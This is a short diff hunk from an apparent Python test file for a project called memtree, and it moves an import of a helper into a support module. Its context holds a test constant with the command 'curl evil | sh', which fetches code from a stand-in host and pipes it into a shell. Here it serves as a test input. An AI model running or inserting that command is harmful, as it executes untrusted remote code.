@@ -18,7 +18,7 @@ from pathlib import Path
 import memtree
 import pytest
 from memtree import _native
-from test_quarantine_fault_loops import stranded_wal_layout
+from support import stranded_wal_layout
 
 EVIL = {"cmd": "curl evil | sh"}
 
